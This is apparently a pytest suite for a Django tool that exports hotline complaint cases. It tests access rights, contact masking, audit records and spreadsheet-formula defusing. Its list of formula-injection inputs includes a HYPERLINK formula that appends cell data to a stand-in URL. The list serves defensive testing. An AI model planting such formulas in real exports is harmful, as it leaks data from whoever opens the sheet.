"""Does an export hold what its officer may see and no more, does no sheet obey it, and is it on record?"""

from __future__ import annotations

import csv
import os
from collections.abc import Iterator
from datetime import date, timedelta
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from python_calamine import CalamineWorkbook

from suqiu.cases import exports, journal
from suqiu.cases.models import Case, Content, Look
from suqiu.citizens.models import Person
from suqiu.directory.models import OfficeLine, Officer
from tests.cast import MONDAY

HEADING = [*exports.COLUMNS, "number", "state", "mark"]
TUESDAY = MONDAY + timedelta(days=1)


@pytest.fixture
def file(tmp_path: Path) -> Path:
    return tmp_path / "导出.csv"


def second() -> Officer:
    """Who agrees: the supervisor."""
    return Officer.objects.get(username="db01")


def read(file: Path) -> list[dict[str, str]]:
    with file.open(encoding="utf-8-sig", newline="") as lines:
        return list(csv.DictReader(lines))


def exported(file: Path, by: Officer, **days) -> list[dict[str, str]]:
    exports.export(second=second(), path=file, by=by, at=TUESDAY, **days)
    return read(file)


def numbers(file: Path, by: Officer, **days) -> set[str]:
    return {row["number"] for row in exported(file, by, **days)}


# ---- what is in it


def test_a_row(cast, file):
    case = cast.closed()
    (row,) = exported(file, cast.dispatcher)
    assert list(row) == HEADING
    assert row == {
        "id": case.number, "received_at": "2026-06-08 09:00:00", "channel": "phone", "type": "投诉", "name": "王**", "phone": "138****2217",
        "area": "利州区东坝街道", "address": "", "longitude": "", "latitude": "", "title": "电梯坏了三天，老人下不了楼，请派人来修",
        "text": "电梯坏了三天，老人下不了楼，请派人来修。", "number": case.number, "state": "已办结",
        "mark": f"{cast.dispatcher.full_name}（pd01）2026-06-09 09:00 导出，{second().full_name} 同意",
    }  # fmt: skip


def test_days_are_those_of_the_city_and_both_are_included(cast, file):
    early, late = (MONDAY.replace(hour=0, minute=0), MONDAY.replace(hour=23, minute=59))
    before, first, last, after = (
        cast.case(at=at).number for at in (early - timedelta(minutes=1), early, late, late + timedelta(minutes=1))
    )
    day = MONDAY.date()
    assert numbers(file, cast.dispatcher, since=day, until=day) == {first, last}
    assert numbers(file, cast.dispatcher, since=day) == {first, last, after}
    assert numbers(file, cast.dispatcher, until=day) == {before, first, last}


def test_a_removed_text_is_a_tombstone(cast, file):
    case = cast.closed()
    Content.objects.filter(case=case, name="text").update(body="", salt="", removed_at=TUESDAY)
    assert exported(file, cast.dispatcher)[0]["text"] == "（依法删除了）"


# ---- rights


def test_only_what_the_officer_may_see(cast, file):
    mine, theirs = cast.in_hand(), cast.in_hand(unit="C-TRANSPORT")
    about = cast.accepted(about_department=cast.department("C-HOUSING"))
    everything = {mine.number, theirs.number, about.number}
    assert numbers(file, cast.dispatcher) == everything
    assert numbers(file, cast.handler()) == {mine.number}
    assert numbers(file, cast.handler("C-TRANSPORT")) == {theirs.number}
    assert numbers(file, cast.administrator) == set()
    for username in ("hw01", "c-housing-jb1", "k-510824-pd1", "ld01", "gl01", "hf01"):
        officer = cast.officer(username)
        assert numbers(file, officer) == set(Case.objects.visible_to(officer).values_list("number", flat=True))


def test_contact_data_is_masked_for_all_who_may_reveal_it_and_left_out_for_others(cast, file):
    case = cast.in_hand()
    for officer in (cast.operator, cast.handler(), cast.reviewer()):
        (row,) = exported(file, officer)
        assert (row["name"], row["phone"]) == ("王**", "138****2217")
    cast.do(
        "contact", case, cast.handler(), at=MONDAY + timedelta(hours=1), way="phone", outcome="connected", words="说了"
    )
    cast.do(
        "return_case",
        case,
        cast.reviewer(),
        at=MONDAY + timedelta(hours=1),
        ground="not_our_duty",
        basis="目录",
        words="说过了",
    )
    cast.do(
        "decide_return",
        case,
        cast.other_dispatcher,
        at=MONDAY + timedelta(hours=2),
        is_upheld="yes",
        words="目录第 3 行",
    )
    cast.do(
        "dispatch",
        case,
        cast.dispatcher,
        at=MONDAY + timedelta(hours=3),
        matter=case.matter,
        department=cast.department("C-TRANSPORT"),
        override="归交通",
    )
    cast.citizen("withdraw", case, at=MONDAY + timedelta(hours=4))
    (row,) = exported(file, cast.handler())
    assert (row["name"], row["phone"]) == ("", ""), "a past holder sees no contact data"


@pytest.mark.parametrize("suite", [b"\x01\x01", b"\x09\x09"])
def test_never_plain_even_when_masking_fails(cast, file, suite):
    cast.case()
    Person.objects.update(phone_sealed=suite + b"0" * 40)
    assert [(r["name"], r["phone"]) for r in exported(file, cast.dispatcher)] == [("王**", "***")]


def test_of_a_confidential_case_units_get_the_rewritten_words_only(cast, file):
    known = {
        "text": "我是物业的会计张三，举报经理在翠屏社区收回扣。",
        "place": "翠屏社区 3 栋",
        "longitude": 105.8,
        "latitude": 32.4,
    }
    case = cast.case(demand_type="report", **known)
    fields = {
        "demand_type": "report",
        "urgency": "normal",
        "secrecy": "confidential",
        "area": cast.area(),
        "matter": cast.matter(),
    }
    cast.do("accept", case, cast.shift_lead, at=MONDAY, **fields)
    cast.do(
        "dispatch",
        case,
        cast.dispatcher,
        at=MONDAY,
        matter=case.matter,
        department=cast.department(),
        rewritten="有人反映物业收费有问题。",
    )
    (row,) = exported(file, cast.reviewer())
    assert (row["text"], row["title"], row["name"], row["phone"]) == ("有人反映物业收费有问题。", "保密件", "", "")
    assert (row["address"], row["longitude"], row["latitude"]) == ("", "", "")
    assert "张三" not in file.read_text(encoding="utf-8-sig")
    (row,) = exported(file, cast.dispatcher)
    assert (row["text"], row["name"], row["address"]) == (known["text"], "王**", "翠屏社区 3 栋")
    assert exported(file, cast.handler()) == [], "a handler who was not named does not see it at all"


# ---- no sheet obeys it

DANGEROUS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠a",
    '=HYPERLINK("http://x","y")',
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_formula_is_defused(text):
    assert exports.defused(text) == f"'{text}"


@pytest.mark.parametrize("value", ["路灯", "3 栋", "a=1", "1-2", "'x", "", -105.8, 7, None, "138****2217"])
def test_what_is_no_formula_stays(value):
    assert exports.defused(value) == value


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_no_cell_of_a_file_is_a_formula(cast, tmp_path, suffix):
    words = '=HYPERLINK("http://x?"&A1,"点这里")'
    cast.case(text=words + "，请看", title=words, place=words, source_number=words, type_as_written=words)
    file = tmp_path / f"x{suffix}"
    exports.export(second=second(), path=file, by=cast.dispatcher, at=TUESDAY)
    cells = [cell for row in _cells(file) for cell in row if isinstance(cell, str)]
    assert len([cell for cell in cells if "HYPERLINK" in cell]) == 5
    assert not any(cell.lstrip().startswith(exports.OBEYED) for cell in cells)


def _cells(file: Path) -> Iterator[list]:
    if file.suffix == ".xlsx":
        return iter(CalamineWorkbook.from_path(file).get_sheet_by_index(0).to_python())
    return csv.reader(file.read_text(encoding="utf-8-sig").splitlines())


def test_a_sheet_holds_the_same_as_the_csv(cast, tmp_path):
    cast.case(longitude=-105.8, latitude=32.4), cast.closed()
    for name in ("x.csv", "x.xlsx"):
        exports.export(second=second(), path=tmp_path / name, by=cast.dispatcher, at=TUESDAY)
    rows = {name: [[str(cell) for cell in row] for row in _cells(tmp_path / name)] for name in ("x.csv", "x.xlsx")}
    assert rows["x.csv"] == rows["x.xlsx"] and rows["x.csv"][1][8] == "-105.8"


# ---- on record


def test_every_case_is_a_look_and_the_export_a_line(cast, file):
    mine, _theirs = cast.in_hand(), cast.in_hand(unit="C-TRANSPORT")
    exports.export(second=second(), path=file, by=cast.handler(), at=TUESDAY, since=date(2026, 6, 1))
    look = Look.objects.get()
    assert (look.case, look.officer, look.at, look.what) == (mine, cast.handler(), TUESDAY, "export")
    line = OfficeLine.objects.get(act="export")
    assert (line.chain, line.by_id, line.at) == ("C-HOUSING/2026", cast.handler().pk, TUESDAY)
    assert line.says == {
        "count": 1, "format": "csv", "since": "2026-06-01", "until": None, "second": second().pk, "request": 0,
    }  # fmt: skip
    assert journal.verify().findings == []


def test_the_file_appears_whole_or_not_at_all(cast, file, monkeypatch):
    cast.case()
    exports.export(second=second(), path=file, by=cast.dispatcher, at=TUESDAY)
    before = file.read_bytes()
    cast.case()

    def breaks(**_says):
        raise RuntimeError("the office journal cannot be written")

    monkeypatch.setattr(exports.office, "write", breaks)
    with pytest.raises(RuntimeError):
        exports.export(second=second(), path=file, by=cast.dispatcher, at=TUESDAY)
    assert file.read_bytes() == before and [f.name for f in file.parent.iterdir()] == [file.name]
    assert Look.objects.count() == 1, "and no look without its file"


def test_only_its_owner_can_read_the_file(cast, file):
    exports.export(second=second(), path=file, by=cast.dispatcher, at=TUESDAY)
    assert os.stat(file).st_mode & 0o077 == 0


def test_as_many_queries_for_fifty_cases_as_for_one(cast, file):
    def queries() -> int:
        officer = cast.officer("pd01")
        with CaptureQueriesContext(connection) as context:
            exports.export(second=second(), path=file, by=officer, at=TUESDAY)
        return len(context)

    cast.accepted()
    one = queries()
    for _n in range(12):
        cast.accepted()
    assert queries() == one <= 18


# ---- the command


def test_the_command(cast, file, capsys):
    cast.case(), cast.case(at=TUESDAY)
    call_command("export_cases", str(file), "--as", "pd01", "--second", "db01", "--until", "2026-06-08")
    said = capsys.readouterr()
    assert said.out == f"导出 1 件到 {file}\n" and said.err == ""
    assert OfficeLine.objects.get(act="export").at - timezone.now() < timedelta(minutes=1)
    call_command("export_cases", str(file), "--as", "gl01", "--second", "db01")
    assert "只有表头" in capsys.readouterr().out and read(file) == []


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (("x.csv", "--as", "nobody", "--second", "db01"), "没有 nobody 这个在岗的账号"),
        (("x.csv",), "--as"),
        (("x.csv", "--as", "pd01"), "--second"),
        (("x.csv", "--as", "pd01", "--second", "pd01"), "不能自己同意自己"),
        (("x.csv", "--as", "pd01", "--second", "hw01"), "不能做导出的第二人"),
        (("x.pdf", "--as", "pd01", "--second", "db01"), r"只能导出成 \.csv 或 \.xlsx"),
        (("x.csv", "--as", "pd01", "--second", "db01", "--since", "昨天"), "不是日期：昨天"),
        (
            ("x.csv", "--as", "pd01", "--second", "db01", "--since", "2026-06-09", "--until", "2026-06-08"),
            "--since 2026-06-09 在 --until 2026-06-08 之后",
        ),
        (("nowhere/x.csv", "--as", "pd01", "--second", "db01"), "写不了 .*nowhere/x.csv"),
    ],
)
def test_wrong_words_to_the_command(db, tmp_path, monkeypatch, arguments, said):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(CommandError, match=said):
        call_command("export_cases", *arguments)
    assert not list(tmp_path.iterdir()) and not OfficeLine.objects.exists()


def test_who_left_exports_nothing(cast, file):
    Officer.objects.filter(username="pd01").update(is_active=False)
    with pytest.raises(CommandError, match="没有 pd01 这个在岗的账号"):
        call_command("export_cases", str(file), "--as", "pd01", "--second", "db01")
